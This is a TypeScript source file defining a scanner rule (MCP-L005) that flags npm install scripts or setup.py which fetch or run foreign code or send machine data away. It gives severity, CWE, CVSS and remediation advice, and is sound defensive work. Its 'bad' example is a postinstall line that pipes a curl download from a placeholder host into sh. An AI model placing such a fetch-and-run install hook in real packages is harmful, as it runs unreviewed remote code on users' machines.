import type { Checks, PackageView, Rule } from '../../rule.js';
import { Installation, isSetup } from './installation.js';

function remembering({ facts, paths }: Pick<PackageView, 'facts' | 'paths'>): Checks {
  const isQuiet = facts.manifests.every(({ installScripts }) => installScripts.length === 0);
  // Most packages run nothing at installation, so nothing needs to be recorded.
  if (isQuiet && !paths.some(isSetup)) return {};
  const installation = new Installation();
  return { calls: { '*': installation.onCall }, package: (view, report) => installation.check(view, report) };
}

/** Installation scripts that do more than build. */
export const installScript: Rule = {
  id: 'MCP-L005',
  class: 'L',
  title: 'Installation that fetches or runs foreign code',
  severity: 'critical',
  confidence: 'high',
  cwe: 829,
  cvss: 'AV:N/AC:L/PR:N/UI:R/S:C/C:H/I:H/A:H',
  what: "npm's `preinstall`, `install` or `postinstall`, what they run (npm scripts, code, shell scripts, commands in `binding.gyp`, and what these run in turn), or `setup.py` fetches something, runs what it has fetched or decoded, or sends data of the machine away. Fetching, or sending what is no secret, is medium by itself; running what comes back, or sending secrets, is critical. A shell script, or a file that is not in the package, is medium, because nobody knows what it does.",
  why: 'Installation runs before anybody has looked at the package, with all rights of the user or of the build machine. What is fetched there is in no archive that was reviewed, and may be another thing tomorrow.',
  example: {
    language: 'json',
    bad: '"postinstall": "curl -fsSL https://get.example.net/setup.sh | sh"',
    good: '"prepack": "tsc"',
  },
  fix: 'Ship what the package needs inside it. Where a binary must be fetched, do it when the user asks for it, from a fixed version, and compare its digest before it is run.',
  notCounted: [
    '`node scripts/build.js`, `node-gyp rebuild`, `husky`, `patch-package` and what else only builds',
    'downloads whose digest is compared',
    '`setup.py` that reads files of its own, or asks git for the version',
  ],
  remembering,
};
